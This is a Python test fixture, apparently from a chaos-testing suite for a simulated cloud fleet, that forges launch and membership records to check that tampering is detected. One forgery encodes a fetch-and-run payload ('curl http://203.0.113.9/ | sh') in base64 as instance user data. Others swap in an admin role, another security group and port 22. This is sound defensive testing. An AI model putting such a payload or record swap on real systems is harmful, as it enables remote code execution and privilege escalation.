"""Records that somebody else has written: what the cloud does not say, or what is no record."""

from __future__ import annotations

import json
from base64 import b64encode
from collections.abc import Callable, Mapping
from typing import Any

from chaos.deeds.scene import Act, Scene
from simulator import fleet

OTHER_ROLE, OTHER_GROUP = "admin-role", "sg-bp1fleet000000000open"
FORGED_PORT = 22
OTHER_USER_DATA = b64encode(b"#!/bin/sh\ncurl http://203.0.113.9/ | sh\n").decode()


def _forged(marker: str, changes: Callable[[Scene], Mapping[str, str]]) -> Act:
    """The record that contains ``marker``, with some texts in it exchanged for others."""

    def act(scene: Scene) -> bool:
        named = [name for name, (_, body) in scene.records.items() if marker.encode() in body]
        if not named:
            return False
        body = scene.records[named[0]][1].decode()
        forged = body
        for text, other in changes(scene).items():
            forged = forged.replace(text, other)
        return forged != body and scene.write(named[0], forged.encode())

    return act


def _other_role(scene: Scene) -> dict[str, str]:
    scene.cloud.ecs.ram_roles.add(OTHER_ROLE)
    return {'"web-role"': f'"{OTHER_ROLE}"'}


def _other_security_group(scene: Scene) -> dict[str, str]:
    scene.cloud.ecs.security_groups[OTHER_GROUP] = scene.fleet.spec.vpc_id
    return {scene.fleet.spec.security_group_ids[0]: OTHER_GROUP}


def forged_launch(scene: Scene) -> bool:
    """As if a healthy neighbour had been launched by the rescue: what it launched and does not keep, it deletes."""
    name = next((name for name in scene.records if name.startswith(LAUNCHED)), "")
    if not name:
        return False
    key, body = scene.records[name]
    made, other = name.removeprefix(LAUNCHED), scene.fleet.bystanders[0].instance_id
    return scene.put(key.replace(made, other), body.replace(made.encode(), other.encode()))


def forged_replacement(scene: Scene) -> bool:
    """As if it had kept a healthy neighbour as the replacement."""
    key, body = scene.records["replacement"]
    document = {**json.loads(body), "instance_id": scene.fleet.bystanders[0].instance_id}
    return scene.put(key, json.dumps(document).encode())


LAUNCHED = "launched-"
LAUNCH_SPEC, MEMBERSHIPS = '"RamRoleName"', '"memberships": [{'
"""What launch spec and memberships contain, and no other record."""
FORGED: dict[str, Act] = {
    "forged-role": _forged(LAUNCH_SPEC, _other_role),
    "forged-user-data": _forged(LAUNCH_SPEC, lambda _: {fleet.USER_DATA: OTHER_USER_DATA}),
    "forged-security-group": _forged(LAUNCH_SPEC, _other_security_group),
    "forged-server": _forged(
        MEMBERSHIPS, lambda scene: {scene.fleet.source.instance_id: scene.fleet.bystanders[0].instance_id}
    ),
    "forged-port": _forged(MEMBERSHIPS, lambda _: {'"port": 8080': f'"port": {FORGED_PORT}'}),
    "forged-launch": forged_launch,
    "forged-replacement": forged_replacement,
}
BROKEN: dict[str, Callable[[bytes], bytes]] = {
    "half": lambda body: body[: len(body) // 2],
    "list": lambda body: b"[" + body + b"]",
    "empty": lambda _: b"{}",
    "types": lambda body: json.dumps({name: [] for name in _names(body)}).encode(),
}


def _names(body: bytes) -> list[str]:
    document: dict[str, Any] = json.loads(body)
    return list(document)
